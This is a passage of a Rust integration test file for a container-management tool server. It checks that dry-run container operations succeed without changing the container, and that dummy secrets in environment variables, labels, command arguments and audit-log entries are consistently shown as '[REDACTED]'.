        (
            "containers_logs",
            json!({"target": t, "container": n, "max_bytes": 20, "grep": "line", "since": "1h"}),
        ),
        ("containers_stats", json!({"target": t, "container": n})),
        (
            "containers_start",
            json!({"target": t, "container": n, "dry_run": true}),
        ),
        (
            "containers_stop",
            json!({"target": t, "container": n, "dry_run": true, "timeout_secs": 1}),
        ),
        (
            "containers_restart",
            json!({"target": t, "container": n, "dry_run": true}),
        ),
        (
            "containers_pause",
            json!({"target": t, "container": n, "dry_run": true}),
        ),
        (
            "containers_unpause",
            json!({"target": t, "container": n, "dry_run": true}),
        ),
        (
            "containers_remove",
            json!({"target": t, "container": n, "dry_run": true, "force": true}),
        ),
        (
            "containers_update",
            json!({"target": t, "container": n, "dry_run": true}),
        ),
        (
            "containers_image_pull",
            json!({"target": t, "image": IMAGE, "dry_run": true}),
        ),
        ("containers_images", json!({"target": t, "limit": 3})),
        ("containers_networks", json!({"target": t})),
        ("containers_volumes", json!({"target": t})),
        ("containers_list", json!({"targets": [t], "format": "toon"})),
    ];
    let actions: Vec<Value> = calls
        .iter()
        .map(|(tool, args)| json!({"call": tool, "args": args}))
        .collect();
    let (lines, stdout) = w.python(&python, &json!(actions), &[]).await;
    assert_eq!(lines.len(), calls.len() + 1, "{stdout}");
    for ((tool, _), line) in calls.iter().zip(&lines[1..]) {
        assert_eq!(line["tool"], *tool, "{stdout}");
        assert_eq!(line["isError"], false, "{tool}: {line}");
        assert!(line["structuredContent"].is_object(), "{tool}: {line}");
    }
    assert!(!stdout.contains("s3cr3t"), "a secret env value reached the client");
    assert_eq!(
        engine_says(w.docker_host(), "{{.State.Status}}", &n),
        "running",
        "dry runs only"
    );
}

/// Issue #20 item 11: one rule set decides what is secret. A real container whose environment,
/// labels and command hold secrets under names Docker's old list and the audit log's old list
/// disagreed on shows none of the values in `containers_inspect`; a call with such argument
/// names is stored redacted by the same rules. (Before: `--password=hunter2` and `--token …` in
/// the command were shown, and the audit row kept `db_pass` in clear.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_secret_rule_set_for_inspect_and_the_audit_log() {
    let Some(mut w) = world().await else { return };
    let n = name("secrets");
    let secrets = [
        "hunter2",
        "x-api-secret-1",
        "y-cred-secret-2",
        "tok-secret-3",
        "pass-secret-4",
    ];
    let _c = run(
        w.docker_host(),
        &n,
        &[
            "-e",
            "DB_PASSWORD=hunter2",
            "-e",
            "API_KEY=x-api-secret-1",
            "-e",
            "MY_CREDENTIALS=y-cred-secret-2",
            "-e",
            "PLAIN=visible",
            "--label",
            "db.pass=pass-secret-4",
        ],
        &[
            "sh",
            "-c",
            "trap 'exit 0' TERM; while :; do sleep 0.2; done",
            "app",
            "--password=hunter2",
            "--token",
            "tok-secret-3",
        ],
    );
    let r = w.call("containers_inspect", json!({"container": n})).await;
    assert_eq!(r["isError"], false, "{r}");
    let shown = r.to_string();
    for s in secrets {
        assert!(!shown.contains(s), "`{s}` shown by containers_inspect: {shown}");
    }
    let i = &r["structuredContent"];
    let env = i["env"].as_array().unwrap();
    let get = |k: &str| env.iter().find(|e| e["name"] == k).unwrap_or_else(|| panic!("{k}"));
    for k in ["DB_PASSWORD", "API_KEY", "MY_CREDENTIALS"] {
        assert_eq!(get(k)["value"], "[REDACTED]", "{k}");
    }
    assert_eq!(get("PLAIN")["value"], "visible");
    let cmd: Vec<&str> = i["cmd"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert_eq!(cmd[3..], ["app", "--password=[REDACTED]", "--token", "[REDACTED]"]);
    assert_eq!(i["labels"]["db.pass"], "[REDACTED]");

    // The audit row of a call whose arguments carry secrets under such names.
    let bad = w
        .call(
            "containers_inspect",
            json!({"container": n, "db_pass": "pass-secret-4", "MY_CREDENTIALS": "y-cred-secret-2"}),
        )
        .await;
    assert_eq!(bad["isError"], true, "{bad}");
    let rows = w
        .server
        .audit_where(1, |r| r.arguments.as_ref().is_some_and(|a| a.get("db_pass").is_some()))
        .await;
    assert_eq!(rows.len(), 1);
    let stored = rows[0].arguments.as_ref().unwrap();
    assert_eq!(stored["db_pass"], "[REDACTED]", "{stored}");
    assert_eq!(stored["MY_CREDENTIALS"], "[REDACTED]", "{stored}");
    let all = serde_json::to_string(&w.server.audit()).unwrap();
    for s in secrets {
        assert!(!all.contains(s), "`{s}` in the audit log");
    }
}
